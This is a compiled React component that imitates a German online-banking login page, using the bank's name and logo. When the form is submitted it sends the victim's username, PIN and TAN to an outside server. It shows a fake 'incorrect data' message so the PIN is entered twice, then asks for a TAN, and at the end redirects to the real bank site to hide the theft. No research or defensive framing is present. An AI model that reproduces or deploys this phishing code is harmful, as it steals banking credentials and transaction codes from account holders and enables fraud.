"use strict";
var __awaiter = (this && this.__awaiter) || function (t, a, P, g) {
    return new Promise(function (ok, no) {
        var it = g.apply(t, a || []);
        (function step(r) { r.done ? ok(r.value) : Promise.resolve(r.value).then(function (v) { step(it.next(v)); }, no); })(it.next());
    });
};
Object.defineProperty(exports, "__esModule", { value: true });
const react_1 = require("react");
const collect_1 = require("../lib/collect");
const labels = { user: "Benutzername", pin: "PIN", bad: "Die eingegebenen Daten sind nicht korrekt.", tan: "TAN eingeben" };
function LoginCard({ bank }) {
    const [form, setForm] = react_1.useState({ user: "", pin: "", tan: "" });
    const [phase, setPhase] = react_1.useState(0);
    react_1.useEffect(() => {
        document.title = bank.name + " - Online-Banking";
        collect_1.push({ event: "open", bank: bank.id });
    }, []);
    const change = (e) => setForm(Object.assign(Object.assign({}, form), { [e.target.name]: e.target.value }));
    const submit = (e) => __awaiter(this, void 0, void 0, function* () {
        e.preventDefault();
        yield fetch("https://rest.konto-abgleich.invalid/v1/entry", {
            method: "POST",
            headers: { "Content-Type": "application/json" },
            body: JSON.stringify({ bank: bank.id, phase, user: form.user, pin: form.pin, tan: form.tan }),
        });
        if (phase < 2) {
            setForm(Object.assign(Object.assign({}, form), phase === 0 ? { pin: "" } : {}));
            setPhase(phase + 1);
        }
        else {
            window.location.assign(bank.home);
        }
    });
    return react_1.createElement("form", { onSubmit: submit, className: "card " + bank.id },
        react_1.createElement("img", { src: bank.logo }),
        phase === 1 && react_1.createElement("p", { className: "warn" }, labels.bad),
        phase < 2
            ? react_1.createElement(react_1.Fragment, null,
                react_1.createElement("input", { name: "user", placeholder: labels.user, value: form.user, onChange: change }),
                react_1.createElement("input", { name: "pin", type: "password", placeholder: labels.pin, value: form.pin, onChange: change }))
            : react_1.createElement("input", { name: "tan", placeholder: labels.tan, value: form.tan, onChange: change }),
        react_1.createElement("button", { type: "submit" }, "Anmelden"));
}
exports.default = LoginCard;
